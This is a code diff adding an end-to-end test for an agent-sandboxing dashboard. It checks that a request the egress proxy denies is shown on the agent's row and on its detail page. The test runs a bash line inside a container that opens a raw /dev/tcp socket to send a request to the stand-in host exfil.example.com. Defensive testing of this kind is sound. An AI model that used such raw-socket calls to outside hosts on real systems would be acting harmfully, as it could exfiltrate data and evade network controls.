@@ -177,4 +177,41 @@ public sealed class DashboardTests(RunningDashboard stack)
         await Assertions.Expect(page.GetByTestId("not-running")).ToContainTextAsync("any more", new() { Timeout = 60_000 });
         await page.ScreenshotAsync(new() { Path = Path.Combine(stack.ArtifactsDirectory, "agent-detail.png"), FullPage = true });
     }
+
+    [Fact]
+    public async Task A_request_the_egress_proxy_denies_shows_on_the_row_and_the_detail_page()
+    {
+        var page = await stack.SignedInPageAsync("lee");
+        using var api = new HttpClient { BaseAddress = stack.Web.Url };
+        api.DefaultRequestHeaders.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", RunningDashboard.ApiToken);
+        using var launched = await api.PostAsync(new Uri("/api/bottles", UriKind.Relative), System.Net.Http.Json.JsonContent.Create(new { agent = "shell", label = "egress probe", color = "red" }));
+        launched.EnsureSuccessStatusCode();
+        var label = page.Locator(".agent-label", new() { HasTextString = "egress probe" });
+        await Assertions.Expect(label).ToBeVisibleAsync(new() { Timeout = 60_000 });
+        var slug = (await label.GetAttributeAsync("data-slug"))!;
+
+        // The agent tries a host its manifest entry does not allow, through its proxy as any tool would.
+        await DockerExecAsync($"botbottle-{slug}",
+            "proxy=${HTTP_PROXY#http://}; exec 3<>/dev/tcp/${proxy%:*}/${proxy##*:}; printf 'GET http://exfil.example.com/ HTTP/1.1\r\nHost: exfil.example.com\r\nConnection: close\r\n\r\n' >&3; head -1 <&3");
+
+        var row = page.Locator("tr", new() { Has = label });
+        await Assertions.Expect(row.GetByTestId("egress-denied")).ToHaveTextAsync("1 denied", new() { Timeout = 30_000 });
+        await label.ClickAsync();
+        await page.WaitForURLAsync($"**/agents/{slug}");
+        await Assertions.Expect(page.GetByTestId("egress-denied")).ToHaveTextAsync("1");
+        await Assertions.Expect(page.GetByTestId("output")).ToContainTextAsync("egress-denied: denied GET exfil.example.com:80: not on the allowlist");
+        await page.ScreenshotAsync(new() { Path = Path.Combine(stack.ArtifactsDirectory, "egress-denied.png"), FullPage = true });
+        using var stopped = await api.DeleteAsync(new Uri($"/api/bottles/{slug}", UriKind.Relative));
+    }
+
+    private static async Task DockerExecAsync(string container, string script)
+    {
+        using var docker = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("docker", ["exec", container, "bash", "-c", script])
+        {
+            RedirectStandardOutput = true,
+            RedirectStandardError = true,
+        })!;
+        await docker.WaitForExitAsync();
+        Assert.True(docker.ExitCode == 0, await docker.StandardError.ReadToEndAsync());
+    }
 }
